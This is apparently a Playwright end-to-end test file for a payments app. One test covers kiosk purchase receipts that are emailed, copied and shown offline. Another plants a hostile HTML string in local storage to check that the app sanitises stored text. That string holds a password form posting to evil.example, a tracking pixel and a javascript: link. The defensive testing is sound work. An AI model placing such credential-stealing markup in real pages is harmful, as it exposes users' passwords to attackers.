import type { Link } from '#tests/support/faulty-link.ts'
import { personOnServer } from './support/client.ts'
import { kioskAt } from './support/kiosk.ts'
import { expect, mailTo, openAsCasey, test, workerReady, type Page, type RunningServer } from './support/phone.ts'

const silence = (link: Link) => link.break({ match: '.', dropRequest: 'every:1' })

/** Pays at the kiosk with AirPAY, as Casey does from another device. */
const payAtKiosk = async (server: RunningServer, amount: number) => {
  const casey = await personOnServer(server, 'casey@example.com')
  const { tempId } = await casey.post<{ tempId: string }>('/temptoken', { TempIdType: 'TempToken' })
  await kioskAt(server, 'puddle').charge(tempId, amount)
}

const openReceipt = async (page: Page, name: RegExp) => {
  await page.getByRole('button', { name }).first().click()
  const sheet = page.getByRole('dialog', { name: 'Receipt' })
  await expect(sheet).toBeVisible()
  return sheet
}

test('a payment at a kiosk is in the history at once, and its receipt is read, mailed, copied and kept', async ({
  page,
  context,
  link,
  server,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await openAsCasey(page, link.origin('puddle'))
  await workerReady(page)
  await page.goto(`${link.origin('puddle')}/notifications`)
  await page.getByRole('link', { name: /Puddle Club renewed/ }).click()
  await expect(page.getByRole('heading', { name: 'Purchases', level: 1 })).toBeVisible()
  await expect(page.getByRole('button', { name: /The Big Splash/ })).toBeVisible()

  await payAtKiosk(server, 15)
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Account' }).click()
  await page.getByRole('link', { name: 'Purchases' }).click()
  const sheet = await openReceipt(page, /AirPAY.*Elm Street.*\$15\.00/)
  await expect(sheet.getByText('Visa ending 4242')).toBeVisible()
  await sheet.getByRole('button', { name: 'Email' }).click()
  await expect(page.getByText('Email resent.')).toBeVisible()
  expect((await mailTo(server, 'casey@example.com', /^Your receipt/)).text).toContain('AirPAY: $15.00')
  await sheet.getByRole('button', { name: 'Share' }).click()
  await expect(page.getByText('Receipt copied.')).toBeVisible()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('Total: $15.00')

  await silence(link)
  await page.reload()
  const kept = await openReceipt(page, /Gift for priya/)
  await expect(kept.getByText('$19.26')).toBeVisible()
  await kept.getByRole('button', { name: 'Email' }).click()
  await expect(page.getByText('The receipt can be sent when you’re back online.')).toBeVisible({ timeout: 30_000 })
  await page.getByRole('button', { name: 'OK' }).click()
  await kept.getByRole('button', { name: 'Close' }).click()
  await page.getByText('Used', { exact: true }).click()
  await expect(page.getByText('Puddle Club Unlimited').first()).toBeVisible()
})

/** An earlier server's text. None of it makes the browser report anything while it is parsed and dropped. */
const hostile =
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>' +
  '<svg><circle r="9"></circle></svg><img src="https://evil.example/pixel.png"><a href="javascript:pwned()">Go</a>'

/** Puts texts into the copy on the device, as an earlier server that did not sanitise them would have. */
const storeTexts = (page: Page, html: string) =>
  page.evaluate(
    (text) =>
      new Promise<void>((resolve, reject) => {
        const opening = indexedDB.open('clearcoat-copy')
        opening.onsuccess = () => {
          const writing = opening.result.transaction('answers', 'readwrite')
          const answers = writing.objectStore('answers')
          const reading = answers.get('appTexts')
          reading.onsuccess = () => {
            const row = reading.result as { value: { support: object } }
            const support = { ...row.value.support, supportFaqs: text }
            answers.put({ ...row, value: { ...row.value, support, terms: [{ value: text }], privacyPolicy: text } })
          }
          writing.oncomplete = () => {
            opening.result.close()
            resolve()
          }
          writing.onabort = () => reject(writing.error ?? new Error('aborted'))
        }
      }),
    html,
  )

test('terms are read over a half-typed form, and nothing hostile in a text reaches the page', async ({
  page,
  context,
  link,
}) => {
  const outside: string[] = []
  context.on('request', (request) => request.url().includes('evil.example') && outside.push(request.url()))
  await page.exposeFunction('pwned', () => outside.push('pwned()'))
  await page.goto(`${link.origin('puddle')}/signUp`)
  await page.getByLabel('First name').fill('Jo')
  await page.getByRole('button', { name: 'privacy policy' }).click()
  const policy = page.getByRole('dialog', { name: 'Privacy' })
  await expect(policy.getByText('What we keep')).toBeVisible()
  await policy.getByRole('button', { name: 'Close' }).click()
  await expect(page.getByLabel('First name')).toHaveValue('Jo')

  await page.goto(link.origin('puddle'))
  await page.getByRole('button', { name: 'Continue as guest' }).click()
  await page.getByRole('button', { name: 'Yes' }).click()
  await workerReady(page)
  await page.goto(`${link.origin('puddle')}/Support`)
  await expect(page.getByRole('link', { name: /hello@puddlelane.example/ }).first()).toBeVisible()
  await storeTexts(page, `<h1>Still here</h1><p>Read this.</p>${hostile}`)
  await silence(link)
  for (const path of ['/Support', '/termsAndConditions', '/privacy']) {
    await page.goto(`${link.origin('puddle')}${path}`)
    const text = page.locator('[data-ui=merchant-html]')
    await expect(text.getByRole('heading', { name: 'Still here' })).toBeVisible()
    await expect(text.locator(':not(h2, h3, p, a)')).toHaveCount(0)
    await expect(text.locator('a[href]')).toHaveCount(0)
  }
  expect(outside).toEqual([])
})
